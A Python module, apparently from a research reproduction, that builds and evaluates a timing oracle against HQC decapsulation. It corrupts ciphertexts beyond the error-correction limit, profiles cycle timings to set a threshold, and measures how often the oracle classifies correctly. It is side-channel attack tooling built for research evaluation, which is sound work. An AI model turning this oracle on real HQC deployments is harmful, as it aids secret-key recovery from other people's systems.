"""Real timing-oracle evaluation against the native HQC implementation.

Reference: simulate/hqc_eval_oracle.py.  Measures the rejection-sampling
timing side channel of decapsulation (the native decaps re-encrypts with the
decoded plaintext's randomness, csrc/hqc_core.cpp hqc_decaps): profiles
modified vs unmodified ciphertexts, derives a threshold, then sweeps oracle
accuracy against the number of measurements.
"""

import logging

from .attack import (
    read_or_generate_keypair,
    search_distinguishable_plaintext,
    toggle_bits_in_v,
)
from .model import Hqc128

logger = logging.getLogger(__name__)


def modify_beyond_correction_limit(HQC, rng, ct):
    """Flip 288 bits in each of 16 RM blocks — far beyond the correction
    radius, guaranteeing decoding failure (hqc_eval_oracle.py:15-32)."""
    BLOCK_SIZE = 384
    BLOCK_NUM = 46
    NOISE_PER_BLOCK = 288
    BLOCKS_WITH_NOISE = 16
    N = HQC.params("N")
    for block in rng.choice(BLOCK_NUM, BLOCKS_WITH_NOISE, replace=False):
        bits = [
            int(b) + BLOCK_SIZE * int(block)
            for b in rng.choice(BLOCK_SIZE, NOISE_PER_BLOCK, replace=False)
        ]
        ct = toggle_bits_in_v(ct, bits, N)
    return ct


def oracle(HQC, ct, priv, measure):
    """First-percentile of cycle-timed decapsulations (hqc_eval_oracle.py:34-37)."""
    samples = HQC.decode_oracle(ct, priv, measure)
    if not samples:
        return None
    return sorted(samples)[measure // 100]


def profiling_oracle(HQC, rng, pub, priv, why, mod, num_profiles=4, measurements=2**16):
    while True:
        logger.info(
            f"Doing {measurements * num_profiles} decapsulations for {why}. "
            f"Ciphertext modified: {mod}"
        )
        profs = []
        for _ in range(num_profiles):
            pt = search_distinguishable_plaintext(
                HQC, rng, target_additional_seedexpansions=2 if mod else 3
            )
            ct, _ = HQC.encaps_with_plaintext_and_r1(pub, pt, [])
            if mod:
                ct = modify_beyond_correction_limit(HQC, rng, ct)
            t = oracle(HQC, ct, priv, measurements)
            if t:
                profs.append(t)
        if profs:
            return sum(profs) / len(profs)


def hqc_eval_oracle(
    rng,
    keyfile=None,
    num_trials=1000,
    max_log2_measurements=18,
    profile_measurements=2**16,
):
    """Full oracle-accuracy evaluation; returns {measurements: accuracy}."""
    HQC = Hqc128()
    measurements_list = [2**x for x in range(max_log2_measurements)]

    pub, priv = read_or_generate_keypair(HQC, keyfile)

    profiling_oracle(HQC, rng, pub, priv, "warmup", False, num_profiles=1,
                     measurements=profile_measurements)

    profiling_diff = 0
    while profiling_diff <= 0:
        t_nmod = profiling_oracle(HQC, rng, pub, priv, "profile phase 1", False,
                                  measurements=profile_measurements)
        logger.info(f"Profiling result (nmod): {t_nmod}")
        t_ymod = profiling_oracle(HQC, rng, pub, priv, "profile phase 2", True,
                                  measurements=profile_measurements)
        logger.info(f"Profiling result (ymod): {t_ymod}")
        profiling_diff = t_nmod - t_ymod
        logger.info(f"Profiling diff nmod - ymod: {profiling_diff}")

    threshold = t_nmod - profiling_diff / 2
    logger.info(f"Profiling threshold: {threshold}")

    pt = search_distinguishable_plaintext(HQC, rng)
    ctnmod, _ = HQC.encaps_with_plaintext_and_r1(pub, pt, [])

    results = {}
    for measure in measurements_list:
        correct = []
        for _trial in range(num_trials):
            ctymod = modify_beyond_correction_limit(HQC, rng, ctnmod)
            t = oracle(HQC, ctymod, priv, measure)
            if t is None:
                continue
            decision = t >= threshold
            correct.append(float(decision == False))  # noqa: E712 — expected False
        acc = sum(correct) / len(correct) if correct else 0.0
        results[measure] = acc
        logger.info(f"Oracle with {measure} measurements: accuracy {acc}")
    return results
